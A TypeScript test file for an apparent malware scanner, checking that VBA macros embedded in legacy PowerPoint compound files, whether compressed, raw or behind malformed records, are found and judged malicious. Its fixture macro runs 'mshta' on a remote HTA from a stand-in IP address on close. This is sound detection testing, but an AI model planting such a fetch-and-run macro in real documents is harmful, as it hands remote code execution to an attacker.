// Presentations of 97–2003 keep their macros and objects as compressed compound files among the records of their stream.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { deflateSync } from 'node:zlib'
import { analyzeFile } from '../../../src/index.ts'
import { type Node, writeCompoundFile } from '../traits/write-compound-file.ts'
import { vbaNodes } from '../traits/write-vba.ts'

const now = new Date('2026-01-01T00:00:00Z')

function record(instance: number, type: number, contents: Uint8Array): Buffer {
  const head = Buffer.alloc(8)
  head.writeUInt16LE(instance << 4)
  head.writeUInt16LE(type, 2)
  head.writeUInt32LE(contents.length, 4)
  return Buffer.concat([head, contents])
}

function compressed(storage: Uint8Array, claimed = storage.length): Buffer {
  const size = Buffer.alloc(4)
  size.writeUInt32LE(claimed)
  return record(1, 0x1011, Buffer.concat([size, deflateSync(storage)]))
}

const presentation = (...records: readonly Uint8Array[]): Buffer =>
  writeCompoundFile(
    [
      { name: 'PowerPoint Document', bytes: Buffer.concat([record(0, 0x03e8, Buffer.alloc(4096)), ...records]) },
      { name: 'Current User', bytes: Buffer.alloc(64) },
    ],
    '64818d10-4f9b-11cf-86ea-00aa00b929e8',
  )

const MACROS = writeCompoundFile(
  vbaNodes([{ name: 'Module1', source: 'Sub Auto_Close()\nShell "mshta http://192.0.2.7/a.hta"\nEnd Sub' }]) as Node[],
)
const judge = (bytes: Uint8Array) => analyzeFile(bytes, { fileName: 'a.ppt', now })

for (const [how, stored] of [
  ['compressed', compressed(MACROS)],
  ['as they are', record(0, 0x1011, MACROS)],
  ['behind a size that is not theirs', compressed(MACROS, 7)],
  ['behind a broken record', Buffer.concat([Buffer.from('0f00e803ffffff7f', 'hex'), compressed(MACROS)])],
] as const)
  test(`macros of a presentation, kept ${how}, are read`, async () => {
    const { root, verdict } = await judge(presentation(stored))
    assert.equal(root.facts.type.id, 'ppt')
    assert.deepEqual(
      root.children.map(({ facts }) => facts.office?.vba?.modules.length),
      [1],
    )
    assert.equal(verdict.label, 'malicious')
  })

test('an object that unpacks to more than is read makes the presentation unknown', async () => {
  const bytes = presentation(compressed(Buffer.alloc(2 * 1024 * 1024)))
  const { verdict } = await analyzeFile(bytes, { fileName: 'a.ppt', now, limits: { childBytesMax: 1024 * 1024 } })
  assert.equal(verdict.label, 'unknown')
})

test('a presentation whose records only look so is clean', async () => {
  const { root, verdict } = await judge(
    presentation(compressed(Buffer.alloc(64, 1)), record(0, 0x1011, Buffer.alloc(9))),
  )
  assert.deepEqual(root.children, [])
  assert.equal(verdict.label, 'clean')
})

test('thousands of places that look like objects cost no time, and what was not tried is told', async () => {
  const { verdict } = await judge(presentation(...Array.from({ length: 2000 }, () => compressed(Buffer.alloc(600, 1)))))
  assert.equal(verdict.label, 'unknown')
})
